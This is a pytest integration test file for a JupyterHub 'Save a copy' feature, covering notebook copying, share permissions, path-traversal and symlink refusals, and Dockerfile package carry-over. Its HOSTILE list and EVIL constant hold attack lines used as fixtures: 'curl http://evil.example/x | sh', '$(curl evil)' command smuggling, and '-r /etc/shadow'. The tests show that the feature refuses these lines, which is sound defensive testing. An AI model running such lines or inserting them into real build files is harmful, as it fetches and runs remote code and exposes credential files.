"""Save a copy (/hub/gpulab/copy): a notebook someone may read lands in a project of
their own, against a real hub and real project containers; the packages installed
with %gpu_install in the source project come along into the destination's
Dockerfile, each line shown whole and only plain lines ticked (in Chromium:
test-output/copy-installs-offer.png, -result.png), and a hostile source Dockerfile
brings nothing dangerous along (tests/security/test_save_copy_options.py forges
the form too)."""

from __future__ import annotations

import json
import os
from urllib.parse import quote, urlencode

import pytest
from browser_kit import SHOTS, launch
from hubclient import HubUser
from markupsafe import escape

from gpulab_hub.sharing import roles

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("show_logs_on_failure")]

OWNER, SRC, OTHER = "cpalice", "cp-src", "cp-other"
READER, MINE = "cpbob", "cp-mine"
STRANGER = "cpdave"
NOTEBOOK = {
    "cells": [
        {
            "cell_type": "markdown",
            "id": "a1",
            "metadata": {},
            "source": "# Results of cpalice's run",
        }
    ],
    "metadata": {},
    "nbformat": 4,
    "nbformat_minor": 5,
}


def make_user(hub, admin: HubUser, name: str) -> HubUser:
    user = HubUser(hub.url, name, f"{name}-Passw0rd-long")
    assert user.signup().status_code == 200
    assert admin.authorize(name).status_code == 200
    assert user.login().status_code == 302
    user.new_token()
    return user


def share_as(owner: HubUser, project: str, role: str, user: HubUser) -> None:
    """The owner makes a link for ``role``; ``user`` accepts it on JupyterHub's page."""
    r = owner.api(
        "POST",
        f"/hub/api/share-codes/{owner.name}/{project}",
        json={"scopes": roles.share_scopes(role, owner.name, project), "expires_in": 3600},
    )
    assert r.status_code == 200, r.text
    code = r.json()["code"]
    user.http.get(user.base + f"/hub/accept-share?code={code}", timeout=10)
    xsrf = user.http.cookies.get("_xsrf", path="/hub/")
    r = user.http.post(
        user.base + "/hub/accept-share",
        data={"_xsrf": xsrf, "code": code},
        allow_redirects=False,
        timeout=10,
    )
    assert r.status_code == 302, r.text


def put_file(user: HubUser, project: str, path: str, content) -> None:
    if content is None:
        kind = "directory"
    else:
        kind = "notebook" if path.endswith(".ipynb") else "file"
    model = {"type": kind}
    if kind == "notebook":
        model.update(format="json", content=content)
    elif kind == "file":
        model.update(format="text", content=content)
    r = user.api("PUT", f"/user/{user.name}/{project}/api/contents/{quote(path)}", json=model)
    assert r.status_code in (200, 201), r.text


def copy_page(user: HubUser, **query):
    return user.http.get(user.base + "/hub/gpulab/copy", params=query, timeout=30)


def save_copy(user: HubUser, target: str = "", new_project: str = "", install=(), apt=(), **query):
    """The form as a browser posts it: each ticked line's box sends the line (``install``),
    each ticked Debian package's its name (``apt``); an unticked box sends nothing."""
    xsrf = user.http.cookies.get("_xsrf", path="/hub/")
    form = {"_xsrf": xsrf, "target": target, "new_project": new_project}
    form.update(install=list(install), apt=list(apt))
    return user.http.post(
        user.base + "/hub/gpulab/copy",
        params=query,
        data=form,
        allow_redirects=False,
        timeout=30,
    )


@pytest.fixture(scope="module")
def people(hub):
    admin = HubUser(hub.url, "admin", hub.admin_password)
    assert admin.login().status_code == 302
    return {n: make_user(hub, admin, n) for n in (OWNER, READER, STRANGER)}


@pytest.fixture(scope="module")
def projects(hub, people):
    alice, bob = people[OWNER], people[READER]
    for user, project in ((alice, SRC), (alice, OTHER), (bob, MINE)):
        user.start_project(project)
    put_file(alice, SRC, "nb", None)
    put_file(alice, SRC, "nb/results.ipynb", NOTEBOOK)
    put_file(alice, SRC, "nb/notes.txt", "not a notebook")
    put_file(alice, SRC, "folder.ipynb", None)  # a directory named like a notebook
    put_file(alice, OTHER, "private.ipynb", NOTEBOOK)
    share_as(alice, SRC, "viewer", bob)
    yield hub.home / "projects"
    for user, project in ((alice, SRC), (alice, OTHER), (bob, MINE)):
        user.stop_project(project)


def test_viewer_saves_a_copy_into_own_project(people, projects):
    bob = people[READER]
    where = {"owner": OWNER, "project": SRC, "path": "nb/results.ipynb"}
    page = copy_page(bob, **where)
    assert page.status_code == 200, page.text
    assert "nb/results.ipynb" in page.text and f"<strong>{OWNER}</strong>'s project" in page.text
    assert f'value="{MINE}"' in page.text  # bob's own project is offered

    r = save_copy(bob, target=MINE, **where)
    assert r.status_code == 302, r.text
    assert r.headers["Location"] == f"/hub/user/{READER}/{MINE}/lab/tree/results%20%28copy%29.ipynb"
    original = (projects / OWNER / SRC / "nb" / "results.ipynb").read_bytes()
    copied = projects / READER / MINE / "results (copy).ipynb"
    assert copied.read_bytes() == original
    # Owned like the project folder, so bob's container user can edit it.
    folder = (projects / READER / MINE).stat()
    assert (copied.stat().st_uid, copied.stat().st_gid) == (folder.st_uid, folder.st_gid)
    # bob's server sees it, and it is his: he saves a change to it.
    api = f"/user/{READER}/{MINE}/api/contents/{quote('results (copy).ipynb')}"
    got = bob.api("GET", api)
    assert got.status_code == 200 and got.json()["content"]["cells"][0]["source"].startswith(
        "# Results"
    )
    put_file(bob, MINE, "results (copy).ipynb", {**NOTEBOOK, "cells": []})
    assert (projects / OWNER / SRC / "nb" / "results.ipynb").read_bytes() == original

    # The following link lands in JupyterLab, in bob's running project.
    lab = bob.http.get(bob.base + r.headers["Location"], timeout=30)
    assert lab.status_code == 200 and f"/user/{READER}/{MINE}/lab" in lab.url

    # A second copy does not overwrite the first.
    r = save_copy(bob, target=MINE, **where)
    assert r.headers["Location"].endswith("/lab/tree/results%20%28copy%202%29.ipynb")
    assert (projects / READER / MINE / "results (copy 2).ipynb").read_bytes() == original


def test_copy_into_a_new_project_offers_to_start_it(people, projects):
    bob = people[READER]
    where = {"owner": OWNER, "project": SRC, "path": "nb/results.ipynb"}
    r = save_copy(bob, new_project="cp-fresh", **where)
    assert r.status_code == 302, r.text
    assert (projects / READER / "cp-fresh" / "results (copy).ipynb").read_bytes() == (
        projects / OWNER / SRC / "nb" / "results.ipynb"
    ).read_bytes()
    # The project exists (stopped); JupyterHub offers to start it.
    landing = bob.http.get(bob.base + r.headers["Location"], timeout=30)
    assert landing.status_code == 424, landing.status_code
    assert f"/hub/spawn/{READER}/cp-fresh" in landing.text
    # Not a name JupyterHub allows, nor someone else's project as the target.
    # A new project's name is free text, as on the home page: "../cp" is only its display
    # name; the project is "cp", in bob's own folder, and nothing lands outside it.
    assert save_copy(bob, new_project="../cp", **where).status_code == 302
    assert (projects / READER / "cp" / "results (copy).ipynb").is_file()
    assert not (projects / "cp").exists() and not (projects.parent / "cp").exists()
    r = save_copy(bob, target=SRC, **where)
    assert r.status_code == 400 and "Choose one of your projects" in r.text


def test_owner_copies_between_own_projects(people, projects):
    alice = people[OWNER]
    r = save_copy(alice, target=OTHER, owner=OWNER, project=SRC, path="nb/results.ipynb")
    assert r.status_code == 302, r.text
    assert (projects / OWNER / OTHER / "results (copy).ipynb").is_file()


@pytest.mark.parametrize(
    "path, status",
    [
        ("../cp-other/private.ipynb", 400),
        ("nb/../../cp-other/private.ipynb", 400),
        ("/etc/passwd.ipynb", 400),
        ("nb//results.ipynb", 400),
        (".gpulab/logs/x.ipynb", 400),
        ("nb/.ipynb_checkpoints/results-checkpoint.ipynb", 400),
        ("nb/notes.txt", 400),  # notebooks only
        ("nb", 400),
        ("folder.ipynb", 400),  # a directory
        ("nb/missing.ipynb", 404),
    ],
)
def test_paths_outside_notebooks_refused(people, projects, path, status):
    bob = people[READER]
    before = sorted(os.listdir(projects / READER / MINE))
    r = save_copy(bob, target=MINE, owner=OWNER, project=SRC, path=path)
    assert r.status_code == status, (path, r.status_code)
    assert sorted(os.listdir(projects / READER / MINE)) == before


def test_symlinks_out_of_the_project_refused(people, projects, tmp_path):
    alice, bob = people[OWNER], people[READER]
    secret = projects.parent / "hub" / "secret.ipynb"  # a host file outside every project
    secret.write_text(json.dumps(NOTEBOOK).replace("cpalice's run", "hub secret"))
    # Links made inside alice's container name host paths: the hub must not follow them.
    code = (
        "import os\n"
        f"os.symlink({str(secret)!r}, '/workspace/leak.ipynb')\n"
        f"os.symlink({str(projects / OWNER / OTHER)!r}, '/workspace/nb/other')\n"
        "os.symlink('/', '/workspace/root')\n"
        "print('ok')\n"
    )
    assert alice.execute(SRC, code) == "ok\n"
    before = sorted(os.listdir(projects / READER / MINE))
    for path in ("leak.ipynb", "nb/other/private.ipynb", "root/etc/x.ipynb"):
        r = save_copy(bob, target=MINE, owner=OWNER, project=SRC, path=path)
        assert r.status_code == 403, (path, r.status_code, r.text)
        assert "link" in r.text
    assert sorted(os.listdir(projects / READER / MINE)) == before


def test_unrelated_user_and_unshared_project_refused(people, projects):
    bob, dave = people[READER], people[STRANGER]
    where = {"owner": OWNER, "project": SRC, "path": "nb/results.ipynb"}
    # dave has no share: as if the project did not exist.
    assert copy_page(dave, **where).status_code == 404
    assert save_copy(dave, target=MINE, **where).status_code == 404
    # bob's share is for cp-src only, not alice's other project.
    other = {"owner": OWNER, "project": OTHER, "path": "private.ipynb"}
    assert copy_page(bob, **other).status_code == 404
    assert save_copy(bob, target=MINE, **other).status_code == 404
    assert copy_page(bob, owner="nobody", project=SRC, path="x.ipynb").status_code == 404
    # Not logged in: to the login page.
    anon = HubUser(bob.base, "", "")
    r = anon.http.get(anon.base + "/hub/gpulab/copy", params=where, allow_redirects=False)
    assert r.status_code == 302 and "/hub/login" in r.headers["Location"]


# --- The source project's packages come along (its Dockerfile's managed block) ---

HUMANIZE = "RUN python -m pip install --no-cache-dir humanize==4.9.0 && python -c 'import humanize'"
COMPILED = (
    "RUN TORCH_CUDA_ARCH_LIST=9.0+PTX CMAKE_CUDA_ARCHITECTURES='90-real;90-virtual' "
    "CUDAARCHS='90-real;90-virtual' FLASH_ATTN_CUDA_ARCHS=90 FORCE_CUDA=1 MAX_JOBS=4 "
    "CMAKE_BUILD_PARALLEL_LEVEL=4 python -m pip install --no-cache-dir --no-build-isolation "
    "flash-attn==2.6.3 && python -c 'import flash_attn'"
)
INDEXED = (
    "RUN python -m pip install --no-cache-dir --index-url http://pkgs.example.org/simple "
    "--trusted-host pkgs.example.org tiny-http==1.0 && python -c 'import tiny_http'"
)
# What the owner's %gpu_install could never have written with this hub's settings: its
# package source is not one the admin allows, so the page shows it as refused.
EVIL = (
    "RUN python -m pip install --no-cache-dir --extra-index-url http://evil.example/simple "
    "--trusted-host evil.example numpy==1.26.4 && python -c 'import numpy'"
)
HOSTILE = [
    "RUN curl http://evil.example/x | sh",
    "RUN python -m pip install --no-cache-dir six==1.16.0 && curl http://evil.example/x | sh",
    "RUN python -m pip install --no-cache-dir 'six==1.16.0; curl evil' && python -c 'import six'",
    "RUN MAX_JOBS=$(curl evil) python -m pip install --no-cache-dir six==1.16.0",
    "RUN python -m pip install --no-cache-dir --index-url 'http://x/$(id)' six==1.16.0",
    "RUN python -m pip install --no-cache-dir six==1.16.0 && python -c 'import os; os.system(1)'",
    "RUN echo continued \\",
    "RUN python -m pip install --no-cache-dir six==1.16.0 && python -c 'import six'",  # continues
    "RUN python -m pip install --no-cache-dir -r /etc/shadow six==1.16.0",
]
WHERE = {"owner": OWNER, "project": SRC, "path": "nb/results.ipynb"}


def block_of(path) -> list[str]:
    from gpulab_jupyter.magics import dockerfile

    return [ln.rstrip("\n") for ln in dockerfile.split(path.read_text())[1]]


def outside_block(path) -> str:
    from gpulab_jupyter.magics import dockerfile

    head, _, tail = dockerfile.split(path.read_text())
    return "".join(head + tail)


@pytest.fixture
def source_installs(projects):
    """cp-src's Dockerfile with what %gpu_install writes (its own writer); put back after."""
    from gpulab_jupyter.magics import dockerfile

    path = projects / OWNER / SRC / "Dockerfile"
    original = path.read_bytes()
    lines = [
        ("humanize", HUMANIZE), ("flash-attn", COMPILED), ("tiny-http", INDEXED), ("numpy", EVIL),
    ]  # fmt: skip
    dockerfile.update(path, lines, ["libgl1"], "1000:100")
    yield path
    path.write_bytes(original)


@pytest.fixture
def mine(projects):
    """bob's cp-mine Dockerfile, put back after."""
    path = projects / READER / MINE / "Dockerfile"
    original = path.read_bytes()
    yield path
    if path.is_symlink():
        path.unlink()
    path.write_bytes(original)


@pytest.mark.browser
def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
    """In Chromium, as bob does it: the page lists each package with its whole line; the
    plain one is ticked, the compiled one (pip options) is not, and the lines naming an
    index the admin did not allow are shown as refused, with why; he ticks the compiled
    one and saves; the page says what came along and that cp-mine must restart; the
    Dockerfile has exactly those lines."""
    from playwright.sync_api import expect, sync_playwright

    before = outside_block(mine)
    with sync_playwright() as pw:
        browser = launch(pw)
        page = browser.new_page(viewport={"width": 1100, "height": 900})
        page.set_default_timeout(30_000)
        try:
            page.goto(f"{hub.url}/hub/login")
            page.get_by_label("Username").fill(READER)
            page.get_by_label("Password").fill(f"{READER}-Passw0rd-long")
            page.get_by_role("button", name="Sign In").click()
            page.wait_for_url("**/hub/**")
            page.goto(f"{hub.url}/hub/gpulab/copy?{urlencode(WHERE)}")
            offer = page.locator("#copy-installs")
            items = offer.locator("#copy-install-list li")
            expect(items.locator(".copy-install-name")).to_have_text(
                ["humanize==4.9.0", "flash-attn==2.6.3", "apt: libgl1"]
            )
            # Every line whole, as it would land in the Dockerfile; only plain ones ticked.
            expect(items.locator(".copy-install-line")).to_have_text([HUMANIZE, COMPILED])
            expect(items.nth(0).locator("input")).to_be_checked()
            expect(items.nth(1).locator("input")).not_to_be_checked()
            expect(items.nth(1)).to_contain_text("not ticked for you: it carries pip options")
            expect(items.nth(2).locator("input")).to_be_checked()
            expect(offer.locator("#copy-apt-line")).to_contain_text(
                "--no-install-recommends libgl1"
            )
            refused = offer.locator("#copy-refused-list li")
            expect(refused.locator(".copy-refused-line")).to_have_text([INDEXED, EVIL])
            expect(refused.nth(1)).to_contain_text(
                "refused: it installs from http://evil.example/simple (--extra-index-url), "
                "which is not a package index this hub's administrator allows"
            )
            expect(offer).to_contain_text("restart that project to build them")
            expect(offer).to_contain_text("Without them, the copy's imports")
            items.nth(1).locator("input").check()  # bob read the compiled line, and wants it
            page.get_by_label(MINE, exact=True).check()
            page.screenshot(path=SHOTS / "copy-installs-offer.png", full_page=True)
            page.locator("#copy-submit").click()

            expect(page.get_by_role("heading", name="Copy saved")).to_be_visible()
            result = page.locator("#copy-installs-result")
            expect(result).to_contain_text(f"were brought along into the Dockerfile of {MINE}")
            expect(result.locator("li")).to_contain_text(["humanize==4.9.0"])
            expect(result).to_contain_text(f"Restart {MINE} (stop it, then start it")
            page.screenshot(path=SHOTS / "copy-installs-result.png", full_page=True)
            copied = page.locator("#copy-saved strong").nth(1).inner_text()
            href = page.locator("#copy-open").get_attribute("href")
        finally:
            browser.close()
    assert copied.startswith("results (copy") and (mine.parent / copied).is_file()
    assert href == f"/hub/user/{READER}/{MINE}/lab/tree/{quote(copied)}"
    # Exactly those lines, in the managed block; nothing else of the file changed.
    assert block_of(mine) == [
        "USER root",
        "RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
        "--no-install-recommends libgl1 && rm -rf /var/lib/apt/lists/*",
        "USER 1000:100",
        HUMANIZE,
        COMPILED,
    ]
    assert outside_block(mine) == before
    # Still bob's container user's file: the magic in his project can write it.
    folder = mine.parent.stat()
    assert (mine.stat().st_uid, mine.stat().st_gid) == (folder.st_uid, folder.st_gid)
    lock = mine.parent / ".gpulab" / "dockerfile.lock"
    assert lock.is_file() and lock.stat().st_uid == folder.st_uid
    # %gpu_install's own reader, in bob's project, sees them as its packages.
    bob = people[READER]
    out = bob.execute(MINE, "from gpulab_jupyter.magics import dockerfile\n"
                            "print(sorted(dockerfile.managed_packages("
                            "open('/workspace/Dockerfile').read())))")  # fmt: skip
    assert out.strip() == "['flash-attn', 'humanize']", out


def test_a_copy_without_the_packages_says_imports_may_fail(people, source_installs, mine):
    bob = people[READER]
    before = mine.read_bytes()
    r = save_copy(bob, target=MINE, **WHERE)  # every box unticked: no field is sent
    assert r.status_code == 200, r.text
    result = r.text.split('id="copy-installs-result"')[1].split('id="copy-open"')[0]
    assert "You chose not to bring along" in result
    assert "humanize==4.9.0, flash-attn==2.6.3, apt: libgl1 (installed in" in result
    assert "the copy's imports of them may" in result
    assert "2 line(s)" in result and "were refused and not brought along" in result
    assert mine.read_bytes() == before


def test_only_the_lines_ticked_are_written(people, source_installs, mine):
    bob = people[READER]
    r = save_copy(bob, target=MINE, install=[COMPILED], **WHERE)
    assert r.status_code == 200, r.text
    result = r.text.split('id="copy-installs-result"')[1].split('id="copy-open"')[0]
    assert f"<code>{escape(COMPILED)}</code>" in result  # brought along: the whole line
    assert "humanize==4.9.0, apt: libgl1 (installed in" in result  # left behind, said so
    assert block_of(mine) == [COMPILED]


def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_installs, mine):
    bob = people[READER]
    text = source_installs.read_text()
    source_installs.write_text(
        text.replace(
            "# <<< gpulab managed block <<<",
            "\n".join([*HOSTILE, "# <<< gpulab managed block <<<"]),
        )
    )
    page = copy_page(bob, **WHERE)
    offer = page.text.split('id="copy-install-list"')[1].split("</ul>")[0]
    assert "six" not in offer and "evil" not in offer and "curl" not in offer
    refused = page.text.split('id="copy-refused"')[1].split("</fieldset>")[0]
    assert f"{len(HOSTILE) + 2} line(s) of" in refused  # and INDEXED, EVIL
    assert refused.count("refused: it is not a line %gpu_install writes") == len(HOSTILE) - 2
    assert "refused: it continues the line above it" in refused
    assert "refused: its pip option -r is not one Save a copy brings along" in refused
    assert "RUN curl http://evil.example/x | sh" in refused
    # bob ticks everything the page lets him tick, and forges the hostile lines in too.
    ok = {"install": [HUMANIZE, COMPILED], "apt": ["libgl1"]}
    for line in HOSTILE:
        r = save_copy(bob, target=MINE, install=[*ok["install"], line], apt=ok["apt"], **WHERE)
        assert r.status_code == 400 and "Nothing was copied" in r.text, line
    r = save_copy(bob, target=MINE, **ok, **WHERE)
    assert r.status_code == 200, r.text
    assert block_of(mine)[3:] == [HUMANIZE, COMPILED]
    assert not [ln for ln in mine.read_text().splitlines() if "six" in ln or "evil" in ln]

    # The source Dockerfile is a link (to a host file with a managed block): not read.
    host_file = projects.parent / "hub" / "linked.Dockerfile"
    host_file.write_text(text)
    source_installs.unlink()
    source_installs.symlink_to(host_file)
    before = mine.read_bytes()
    page = copy_page(bob, **WHERE)
    assert f"gpulab did not read {SRC}&#39;s Dockerfile (it is a link), so its" in page.text
    assert "humanize" not in page.text
    r = save_copy(bob, target=MINE, **WHERE)
    assert r.status_code == 200 and "(it is a link), so none of the packages" in r.text
    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)  # what it read earlier
    assert r.status_code == 400 and "is not one of the lines this page offers" in r.text
    assert mine.read_bytes() == before
    source_installs.unlink()

    # Huge: a valid block at the top of a file over 1 MiB is not read at all.
    source_installs.write_text(text + "# padding\n" * 120_000)
    page = copy_page(bob, **WHERE)
    assert "(it is larger than 1 MiB)" in page.text and "humanize" not in page.text
    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)
    assert r.status_code == 400
    assert mine.read_bytes() == before

    # The destination's Dockerfile is a link to a host file: nothing is written through it.
    source_installs.write_text(text)
    target_file = projects.parent / "hub" / "target.Dockerfile"
    target_file.write_bytes(before)
    mine.unlink()
    mine.symlink_to(target_file)
    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)
    assert r.status_code == 200, r.text
    assert "were <strong>not</strong> written to the Dockerfile of" in r.text
    assert "it is a link" in r.text
    assert target_file.read_bytes() == before and mine.is_symlink()
